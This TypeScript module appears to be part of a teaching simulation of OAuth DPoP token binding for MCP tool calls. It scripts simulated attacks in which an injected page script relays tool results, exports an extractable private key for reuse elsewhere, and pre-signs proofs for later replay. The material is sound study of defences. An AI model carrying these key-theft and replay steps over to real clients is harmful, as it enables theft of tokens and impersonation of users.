import { dpop } from '../../../../oauth/index.ts';
import type { Machine } from '../../../machine/machine.ts';
import { dpopWithExtractableKey } from '../../../machine/naive-client/extractable-key.ts';
import { importCopiedKey, parsedKey, sendWithKey } from '../../../machine/run/attackers-proof.ts';
import { copiedCall } from '../../../machine/run/copied-call.ts';
import {
  bringToAttacker,
  exportKey,
  signForLater,
  thumbprintIn,
} from '../../../machine/run/script-in-page.ts';
import { responseOf } from '../../../machine/wire/exchange.ts';
import { mcpRequests } from '../../chapters/evidence.ts';
import { signInForBound, type Victim } from './victim.ts';

export const NOT_EXTRACTABLE = 'a key that no script can export';
export const EXTRACTABLE = 'an extractable key, of a naive client';

export const KEYS = {
  question: 'Which key does the page have?',
  all: [NOT_EXTRACTABLE, EXTRACTABLE],
} as const;

const signInWith = (machine: Machine, key: string): Promise<Victim> =>
  signInForBound(
    machine,
    {},
    key === EXTRACTABLE ? dpopWithExtractableKey : (keys) => dpop('required', keys),
  );

/** The script calls a tool as the page does, and brings the attacker the result. */
export async function callFromPage(machine: Machine, key: string): Promise<void> {
  const victim = await signInWith(machine, key);
  await victim.run.callTool('whoami');
  const call = mcpRequests(victim.run.log.getSnapshot(), 'tools/call').at(-1);
  await bringToAttacker(victim.run, (call && responseOf(call)?.body) ?? '');
}

/**
 * If the browser exports the private key, the script brings it to the attacker, and the attacker calls with this key.
 *
 * @returns what the browser gave the script: the key as JWK, or the name of its error.
 */
export async function takeKey(machine: Machine, key: string): Promise<string> {
  const victim = await signInWith(machine, key);
  const { run, keys } = victim;
  const { request, token } = await copiedCall(run);
  const pair = await keys.get(thumbprintIn(token));
  if (!pair) throw new Error('The page has no key.');
  const taken = await exportKey(pair);
  await bringToAttacker(victim.run, taken);
  const stolen = await importCopiedKey(taken);
  if (stolen) await sendWithKey(run, stolen, request, { accessToken: token });
  return taken;
}

/** Says what a script got when it asked for the private key: the key, or an error. */
export function takenInWords(taken: string): string {
  return parsedKey(taken)
    ? 'The browser exported the private key. The attacker signed a proof with this key, on another machine.'
    : `The browser did not export the private key: ${taken}. The script brought the attacker nothing but this error and the token.`;
}

export const NO_NONCE = 'no nonce';
export const ITS_NONCE = 'its own nonce';

export const NONCES = {
  question: 'What does the server demand in a proof?',
  all: [NO_NONCE, ITS_NONCE],
} as const;

/** The time between the proof and its use, in milliseconds; less than the lifetime of the token. */
const LATER_MS = 10 * 60_000;

/** The script makes a proof for a time when the page is closed, and the attacker sends it at that time. */
export async function proveInAdvance(machine: Machine, demanded: string): Promise<void> {
  const victim = await signInForBound(machine, { dpopNonces: demanded === ITS_NONCE });
  const { run, binding } = victim;
  const call = await copiedCall(run);
  const made = await signForLater(run, binding, call, LATER_MS);
  await bringToAttacker(victim.run, made);
  run.advanceClock(LATER_MS);
  const headers = { ...call.request.headers, dpop: made };
  await run.send({ ...call.request, headers }, 'attacker');
}
